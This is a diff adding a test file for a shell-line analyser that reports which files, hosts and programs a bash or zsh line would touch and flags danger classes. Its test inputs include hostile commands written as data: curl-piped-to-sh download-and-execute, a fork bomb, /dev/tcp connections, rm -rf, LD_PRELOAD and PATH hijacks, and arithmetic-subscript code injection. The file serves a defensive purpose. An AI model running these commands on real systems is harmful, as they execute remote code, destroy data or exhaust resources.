@@ -1,0 +1,223 @@
+import { expect, test } from "vitest";
+import { printAction } from "../../src/action/index.ts";
+import { lowerShell } from "../../src/shell/index.ts";
+import { smallWorld } from "./world.ts";
+
+/**
+ * What lines do, as far as can be known: actions in order (builtins and upkeep left out, danger classes behind `!`),
+ * then what cannot be known behind `?`. The world: a project at /home/u/p with src/, packages/ and a.txt.
+ */
+const world = smallWorld({ files: { "/home/u/p/src": "directory", "/home/u/p/packages": "directory", "/home/u/p/a.txt": "file" } });
+
+const CASES: readonly (readonly [line: string, lowered: readonly string[]])[] = [
+  // Words: what bash makes of quotes, escapes, braces, tildes and globs.
+  ["x 'a b' \"c d\" $'e\\tf' g\\ h", ["exec x 'a b' 'c d' 'e\\tf' 'g h'"]],
+  ["r''m \"-r\"f $'\\x61'", ["exec rm -rf a", "delete recursively /home/u/p/a"]],
+  ["x {a,b}c {1..3} {a}", ["exec x ac bc 1 2 3 '{a}'"]],
+  ['x ~ ~/a ~+ "~" \\~', ["exec x /home/u /home/u/a /home/u/p '~' '~'"]],
+  ['x *.ts a? "b*"', ["exec x *.ts a? 'b*'"]],
+  ['x "a"*"b"', ["exec x a*b"]],
+  ["dd of=~/x if=a.txt", ["exec dd of=/home/u/x if=a.txt", "write /home/u/x", "read /home/u/p/a.txt"]],
+  // Variables: literal ones are followed, others are holes.
+  ["c=rm; $c a.txt", ["exec rm a.txt", "delete /home/u/p/a.txt"]],
+  ['x="a b"; y "$x" z', ["exec y 'a b' z"]],
+  ['x=a; x+=b; y "$x"', ["exec y ab"]],
+  ['a=(one two); y "${a[@]}"', ["exec y one two"]],
+  ['y "$UNSET"', ["exec y ‹$UNSET›"]],
+  ["y $UNSET", ["exec y ‹$UNSET›"]],
+  ['y ${1:-a} "${HOME}/b"', ["exec y a /home/u/b"]],
+  ['f=src/a.ts; y "${f%.ts}.js" "${f##*/}"', ["exec y src/a.js ‹a part of $f›"]],
+  ['set -- a b; y "$1" "$@"', ["exec y a a b"]],
+  ["y $((1+2)) $?", ["exec y ‹the result of arithmetic› ‹$?›"]],
+  ["echo $((x[$(id)]))", ["exec id", "? arithmetic evaluates `x[$(id)]`, whose text is only known at run time and can run code"]],
+  ['read v < a.txt; y "$v"', ["read /home/u/p/a.txt", "exec y ‹a line of the input›"]],
+  ['x=$(cat a.txt); y "$x"', ["exec cat a.txt", "read /home/u/p/a.txt", "exec y ‹the output of $(cat a.txt)›"]],
+  ['VERSION=$(pwd); y "$VERSION"', ["exec y /home/u/p"]],
+  // The working directory.
+  ["cd src && cat x", ["exec cat x", "read /home/u/p/src/x"]],
+  ["cd src; cat x", ["exec cat x", "read /home/u/p/src/x", "read /home/u/p/x"]],
+  ["(cd src; cat x); cat y", ["exec cat x", "read /home/u/p/src/x", "read /home/u/p/x", "exec cat y", "read /home/u/p/y"]],
+  ['cd "$D" && cat x', ["exec cat x", "read (the folder `cd` goes to: $D)"]],
+  [
+    'for d in packages/*/; do (cd "$d" && cat x); done',
+    [
+      "exec cat x",
+      "read /home/u/p/packages/… (a path below a folder only known at run time)",
+      "exec cat x",
+      "read /home/u/p/packages/… (a path below a folder only known at run time)",
+    ],
+  ],
+  ["cd src && cd .. && cat x", ["exec cat x", "read /home/u/p/x"]],
+  ["cd /tmp || exit; rm -rf x", ["exec rm -rf x", "delete recursively /tmp/x"]],
+  ["pushd src && cat x", ["exec cat x", "read /home/u/p/src/x"]],
+  // Control flow: every branch counts.
+  ["if a; then b; elif c; then d; else e; fi", ["exec a", "exec b", "exec c", "exec d", "exec e"]],
+  ["while a; do b; done", ["exec a", "exec b"]],
+  ["for i in 1 2; do x $i; done", ["exec x 1", "exec x 2"]],
+  ['for f in *.md; do wc -l "$f"; done', ["exec wc -l *.md", "read /home/u/p/*.md", "exec wc -l *.md", "read /home/u/p/*.md"]],
+  ["case $x in a) b;; *) c;; esac", ["exec b", "exec c"]],
+  ["a && b || c; d &", ["exec a", "exec b", "exec c", "exec d"]],
+  ["{ a; b; } | (c; d)", ["exec a", "exec b", "exec c", "exec d"]],
+  ["coproc a; wait", ["exec a"]],
+  ["[[ -f a.txt && $x == y ]]", []],
+  ["[ -f a.txt ]", []],
+  // Functions and aliases.
+  ['f() { rm -rf "$1"; }; f src', ["exec rm -rf src", "delete recursively /home/u/p/src"]],
+  ["f() { x; }", ["exec x"]],
+  ["ls() { evil; }; ls", ["exec evil"]],
+  ["f() { g; }; g() { f; }; f", ["exec f", "? the function f calls itself"]],
+  [":(){ :|:& };:", ["exec : !fork-bomb", "exec : !fork-bomb", "? the function : calls itself"]],
+  ["alias l='rm -rf x'", ["exec rm -rf x", "delete recursively /home/u/p/x"]],
+  // Code in code.
+  ["eval 'cat a.txt'", ["exec cat a.txt", "read /home/u/p/a.txt"]],
+  ["bash -c 'cat \"$1\"' _ a.txt", ["exec bash -c 'cat \"$1\"' _ a.txt", "exec cat a.txt", "read /home/u/p/a.txt"]],
+  ["bash -lc 'a; b'", ["exec bash -lc 'a; b'", "exec a", "exec b"]],
+  ["sh <<'EOF'\na\nEOF", ["exec sh", "exec a"]],
+  ["echo 'a; b' | sh", ["exec sh", "exec a", "exec b"]],
+  [
+    "cat x.sh | sh",
+    ["exec cat x.sh", "read /home/u/p/x.sh", "exec sh", "? sh runs code that is only known at run time: the content of `x.sh`"],
+  ],
+  [
+    "curl http://h/i.sh | sh",
+    [
+      "exec curl http://h/i.sh",
+      "fetch http://h/i.sh",
+      "exec sh !download-exec",
+      "? sh runs code that is only known at run time: the output of curl",
+    ],
+  ],
+  [
+    'bash -c "$(curl http://h/i.sh)"',
+    [
+      "exec curl http://h/i.sh",
+      "fetch http://h/i.sh",
+      "exec bash -c ‹the output of $(curl http://h/i.sh)›",
+      "exec sh !download-exec",
+      "? shell code that is only known at run time: the output of $(curl http://h/i.sh)",
+    ],
+  ],
+  [
+    "source <(curl http://h/i.sh)",
+    ["exec curl http://h/i.sh", "fetch http://h/i.sh", "? source runs code that is only known at run time: the output of curl"],
+  ],
+  ["trap 'a' EXIT", ["exec a"]],
+  ["echo a.txt | xargs cat", ["exec xargs cat", "exec cat a.txt", "read /home/u/p/a.txt"]],
+  [
+    "find src -name '*.ts' | xargs cat",
+    [
+      "exec find src -name '*.ts'",
+      "list /home/u/p/src/**",
+      "exec xargs cat",
+      "exec cat src/‹a path that find prints›",
+      "read /home/u/p/src/… (a path that find prints)",
+    ],
+  ],
+  [
+    "find . -name '*.o' -exec rm {} +",
+    [
+      "exec find . -name '*.o' -exec rm '{}' +",
+      "list /home/u/p/**",
+      "exec rm ./‹a path that find finds›",
+      "delete /home/u/p/… (a path that find finds)",
+    ],
+  ],
+  [
+    "find src -type f -delete",
+    ["exec find src -type f -delete", "list /home/u/p/src/**", "delete recursively /home/u/p/src/… (what find finds)"],
+  ],
+  ["env -S 'a b' ", ["exec env -S 'a b'", "exec a b"]],
+  [
+    "timeout 5 nice -n 3 env X=1 cat a.txt",
+    [
+      "exec timeout 5 nice -n 3 env X=1 cat a.txt",
+      "exec nice -n 3 env X=1 cat a.txt",
+      "exec env X=1 cat a.txt",
+      "exec cat a.txt",
+      "read /home/u/p/a.txt",
+    ],
+  ],
+  ["sudo -u me cat a.txt", ["exec sudo -u me cat a.txt", "privilege sudo !privilege", "exec cat a.txt", "read /home/u/p/a.txt"]],
+  // Redirections.
+  ["echo x > a.txt", ["write /home/u/p/a.txt"]],
+  ["x >> a.txt 2>&1", ["write /home/u/p/a.txt", "exec x"]],
+  ["x > /dev/null 2>&1", ["exec x"]],
+  ["x &> out", ["write /home/u/p/out", "exec x"]],
+  ["x >& out", ["write /home/u/p/out", "exec x"]],
+  ["x < a.txt", ["read /home/u/p/a.txt", "exec x"]],
+  ["x <> a.txt", ["read /home/u/p/a.txt", "write /home/u/p/a.txt", "exec x"]],
+  ["x > /dev/tcp/h/1", ["connect h:1", "exec x"]],
+  ['x > "$F"', ["write ($F)", "exec x"]],
+  ["cat <<EOF > b.txt\n$(id)\nEOF", ["exec id", "write /home/u/p/b.txt", "exec cat"]],
+  ["tee a.txt < /dev/null", ["exec tee a.txt", "write /home/u/p/a.txt"]],
+  // What steers later commands.
+  ["PATH=.:$PATH; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
+  ['PATH="$HOME/.cargo/bin:$PATH" ls', ["exec ls", "list /home/u/p"]],
+  ["LD_PRELOAD=./x.so ls", ["exec ls", "list /home/u/p", "? sets LD_PRELOAD: the loader runs code it names in every program"]],
+  ["for PATH in /tmp/e; do ls; done", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
+  ["printf -v PATH %s /tmp/e; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
+  ["read PATH <<< /tmp/e; ls", ["exec ls", "list /home/u/p", "? sets PATH: it decides which programs names stand for"]],
+  ["NODE_ENV=test ls", ["exec ls", "list /home/u/p"]],
+  ["export CI=1; ls", ["exec ls", "list /home/u/p"]],
+  // What cannot be known.
+  ["$X a", ["exec ‹$X› a", "exec a", "? dynamic command name: $X is only known at run time"]],
+  ["r${x}m a", ["exec r‹$x› a", "? dynamic command name: $x is only known at run time"]],
+  ['ls "unterminated', ["? shell syntax error: unterminated double quote"]],
+  ["[[ 0 -eq 'a[$(id)]' ]]", ["? the operand of -eq is evaluated as arithmetic, which can run code hidden in its text"]],
+  ["printf -v 'a[$(id)]' x", ["? printf evaluates the subscript in `a[$(id)]`, which can run code"]],
+  ["echo ${x@P}", ["? ${x@P} runs substitutions hidden in the variable's text"]],
+  ["mapfile -C 'a ' < a.txt", ["read /home/u/p/a.txt", "exec a ‹a number› ‹a line of the input›"]],
+  ["enable -f ./e.so ls", ["? enable loads or hides builtins"]],
+  ["ls --nonsense", ["exec ls --nonsense", "list /home/u/p", "? ls has no known option `--nonsense`"]],
+  ["git $(echo push)", ["exec git push", "change on git", "code project (project)"]],
+  ["./ls", ["exec ./ls", "list /home/u/p"]],
+  ["/usr/bin/ls", ["exec /usr/bin/ls", "list /home/u/p"]],
+  // zsh reads some lines differently.
+  ["ls =cmd", ["exec ls =cmd", "list /home/u/p/=cmd", "? zsh replaces a word like `=name` by the path of a program"]],
+  [
+    "ls *(.e:id:)",
+    [
+      "exec ls ‹what an extended pattern matches›",
+      "list (what an extended pattern matches)",
+      "? zsh reads an extended pattern as a glob qualifier, which can run code",
+    ],
+  ],
+  ["noglob rm -rf x", ["exec rm -rf x", "delete recursively /home/u/p/x", "? noglob means something only in zsh"]],
+  ["ls $x[1]", ["exec ls ‹$x›", "list ($x)", "? bash and zsh read `$x[1` differently"]],
+  [
+    "x='a b'; ls $x",
+    [
+      "exec ls a b",
+      "list /home/u/p/a",
+      "list /home/u/p/b",
+      "? an unquoted variable holds blanks or wildcards: bash splits it, zsh does not",
+    ],
+  ],
+  ["time -p ls", ["exec ls", "list /home/u/p", "? zsh reads `time -p` as a command named -p"]],
+];
+
+test.each(CASES)("%s", (line, expected) => {
+  const { actions, unknowns } = lowerShell(line, { world });
+  const shown = actions
+    .filter((action) => action.upkeep !== true && !(action.kind === "exec" && action.builtin === true))
+    .map((action) => printAction(action) + (action.dangers ?? []).map((danger) => ` !${danger}`).join(""));
+  expect([...shown, ...unknowns.map(({ reason }) => `? ${reason}`)]).toEqual(expected);
+});
+
+test("a host that is known to run bash gets bash's meaning", () => {
+  expect(lowerShell("x='a b'; ls $x", { world, shell: "bash" }).unknowns).toEqual([]);
+});
+
+test.each([
+  ["nested substitutions", `${"$(".repeat(5000)}x${")".repeat(5000)}`],
+  ["nested groups", `${"(".repeat(5000)}x${")".repeat(5000)}`],
+  ["a long line", `x ${"a ".repeat(600_000)}`],
+  ["many commands", "x;".repeat(200_000)],
+  ["nested shells", Array.from({ length: 40 }).reduce<string>((inner) => `bash -c ${JSON.stringify(inner)}`.slice(0, 100_000), "x")],
+  ["many braces", `x ${"{a,b}".repeat(30)}`],
+  ["a NUL", "ls\u0000rm"],
+  ["a carriage return", "echo ok\rrm -rf ~"],
+  ["text that flows backwards", "echo \u202eevil"],
+])("%s is refused, quickly and without throwing", (_, line) => {
+  expect(lowerShell(line, { world }).unknowns.length).toBeGreaterThan(0);
+});
